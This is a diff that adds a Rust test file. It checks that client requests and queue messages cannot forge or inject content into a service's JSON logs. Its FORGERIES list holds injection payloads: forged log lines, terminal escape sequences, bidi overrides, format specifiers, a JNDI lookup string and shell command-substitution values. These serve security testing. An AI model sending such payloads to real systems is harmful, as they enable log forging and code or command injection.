@@ -1,0 +1,155 @@
+//! What would like to be a line of the log, or to change how one looks.
+
+use super::watch::Watch;
+use super::wire::{exchange, impatient, post};
+use super::{beside, good, inside};
+use crate::harness::{Ours, QUEUE, Setup, TOKEN, root};
+use futures::future::join_all;
+use serde_json::{Value, json};
+use std::collections::BTreeSet;
+
+/// What must not be in any line.
+const MARK: &str = "evil";
+
+/// Lines, colours, ends of strings and directions.
+const FORGERIES: [&str; 8] = [
+    "evil\n{\"timestamp\":\"2026-01-01T00:00:00Z\",\"level\":\"ERROR\",\"message\":\"accepted\",\"receipt\":\"evil\"}\n",
+    "evil\r\nREPORT RequestId: evil",
+    "evil\u{1b}[2J\u{1b}[31m\u{1b}]0;evil\u{7}",
+    "evil\u{9b}31m\u{85}\u{2028}\u{2029}\u{b}\u{c}",
+    "evil\",\"status\":200,\"receipt\":\"evil",
+    "evil\u{202e}\u{2066}",
+    "evil %s %n {} {0} ${jndi:ldap://evil} $(evil) `evil`",
+    "evil\0\u{feff}\\u000a\\",
+];
+
+/// What everybody may read in the lines of the log: its messages and its fields.
+fn documented() -> BTreeSet<String> {
+    let page = std::fs::read_to_string(root().join("docs/LOGGING.md")).unwrap();
+    let (_, lines) = page.split_once("\n## Log lines\n").unwrap();
+    let lines = lines.split("\n## ").next().unwrap().lines().filter(|line| line.starts_with('|'));
+    let words = lines.flat_map(|line| line.split('`').skip(1).step_by(2));
+    words.map(str::to_owned).chain(["timestamp", "level", "message"].map(str::to_owned)).collect()
+}
+
+/// Each line is one JSON object, of nothing but what is documented.
+fn assert_is_documented(line: &str, documented: &BTreeSet<String>) {
+    let object: serde_json::Map<String, Value> =
+        serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:?}"));
+    assert!(!line.chars().any(char::is_control), "{line:?}");
+    if object.contains_key("_aws") {
+        return; // metrics have a form of their own: `metrics::line`
+    }
+    assert!(object.keys().all(|name| documented.contains(name)), "{line}");
+    assert!(documented.contains(object["message"].as_str().unwrap()), "{line}");
+}
+
+#[tokio::test]
+async fn nothing_that_a_client_sends_is_a_line_of_the_log_or_in_one() {
+    let system = Ours::start_with(impatient().parameter("LogLevel", "TRACE")).await;
+    let watch = Watch::new(&system);
+    let (mut refused, mut accepted) = (0, 0);
+    for forgery in FORGERIES {
+        for body in bodies(forgery) {
+            match system.post_body(body).await.status {
+                200 => accepted += 1,
+                400 | 403 => refused += 1,
+                status => panic!("{status}: {forgery}"),
+            }
+        }
+    }
+    let asked = FORGERIES.iter().flat_map(|forgery| requests(forgery));
+    let answers = join_all(asked.map(async |request| exchange(&system, request.as_bytes()).await)).await;
+    for reply in answers.iter().flatten().filter(|reply| !reply.head.contains("content-type: text/html")) {
+        match reply.status {
+            200 => accepted += 1,
+            _ => refused += usize::from(!reply.body.is_empty() || reply.status == 404),
+        }
+    }
+    // What was accepted goes on to the worker, and so does what somebody with a console puts into the queue.
+    let queued: Vec<_> = system.queue(QUEUE).peek().into_iter().map(|message| message.body).collect();
+    assert_eq!(queued.len(), accepted);
+    system.work(&queued).await;
+    let poison: Vec<_> = FORGERIES.iter().flat_map(|forgery| bodies(forgery)).collect();
+    assert_eq!(system.work(&poison).await.len(), poison.len());
+
+    let told = |message: &str| system.log.with_message(message).len();
+    let counts = || (told("accepted"), told("refused"), told("filed"), told(POISON), told("batch done"));
+    let expected = (accepted, refused, accepted, poison.len(), 2);
+    system.until("every line", async || (counts() == expected).then_some(())).await;
+    let documented = documented();
+    for line in system.log.lines() {
+        assert_is_documented(&line, &documented);
+        assert!(!line.contains(MARK), "{line}");
+    }
+    watch.hold(&system, accepted).await;
+}
+
+const POISON: &str = "not an email: given back, for the dead-letter queue";
+
+/// A forgery in every place of a body.
+fn bodies(forgery: &str) -> [String; 8] {
+    let json = serde_json::to_string(forgery).unwrap();
+    let unquoted = &json[1..json.len() - 1];
+    [
+        forgery.to_owned(),
+        json.clone(),
+        good().replace(TOKEN, unquoted),
+        good().replace(r#""a""#, &json).replace(r#""s""#, &json).replace(r#""c""#, &json),
+        good().replace(r#""1693561101""#, &json),
+        good() + forgery,
+        inside(&format!("{json}:{json}")),
+        beside(&format!("{json}:{json}")),
+    ]
+}
+
+/// A forgery in every place of a request's head: as it is, and without what ends or breaks a head.
+fn requests(forgery: &str) -> Vec<String> {
+    let tame: String = forgery.chars().map(|c| if c.is_ascii_control() { '\t' } else { c }).collect();
+    let path: String =
+        tame.chars().map(|c| if c.is_ascii_whitespace() || c == '"' { '+' } else { c }).collect();
+    let percent: String = forgery.bytes().map(|byte| format!("%{byte:02x}")).collect();
+    let close = "connection: close\r\n";
+    let mut requests = vec![
+        post(&format!("/{percent}evil"), close, ""),
+        post(&format!("/?{percent}=evil"), close, &good()),
+        post("/", close, "").replace("POST", "EVIL.evil"),
+    ];
+    for text in [forgery, &tame, &path] {
+        requests.push(post(&format!("/{text}"), close, ""));
+        requests.push(post(&format!("/?{text}"), close, &good()));
+        for name in ["user-agent", "x-amzn-trace-id", "x-forwarded-for", "content-type", "referer", "x-evil"]
+        {
+            requests.push(post("/", &format!("{close}{name}: {text}\r\n"), &good()));
+        }
+        requests.push(post("/", &format!("{close}x-amzn-trace-id: Root=1-{text};Sampled={text}\r\n"), "{}"));
+        requests.push(post("/", close, &good()).replace("host: a", &format!("host: {text}")));
+    }
+    requests
+}
+
+#[tokio::test]
+async fn nothing_that_a_stranger_writes_into_the_queue_is_in_a_line_of_the_log() {
+    let system = Ours::start_with(Setup::usual().unpolled().parameter("LogLevel", "TRACE")).await;
+    let records = FORGERIES.iter().enumerate().flat_map(|(n, forgery)| {
+        [good(), forgery.to_string()].map(|body| {
+            json!({
+                "messageId": format!("m-{n}"),
+                "body": body,
+                "attributes": {"AWSTraceHeader": format!("Root={forgery};Parent={forgery}")},
+                "messageAttributes": {"receipt": {"dataType": "String", "stringValue": forgery}},
+            })
+        })
+    });
+    let records: Vec<Value> = records.collect();
+    let answer = system.invoke("WorkerFunction", &json!({"Records": records})).await;
+    assert_eq!(answer["batchItemFailures"].as_array().unwrap().len(), records.len());
+    let told = async || (system.log.with_message(POISON).len() == records.len()).then_some(());
+    system.until("a line each", told).await;
+    system.until("the end", async || system.log.with_message("batch done").pop()).await;
+    let documented = documented();
+    for line in system.log.lines() {
+        assert_is_documented(&line, &documented);
+        assert!(!line.contains(MARK), "{line}");
+    }
+}
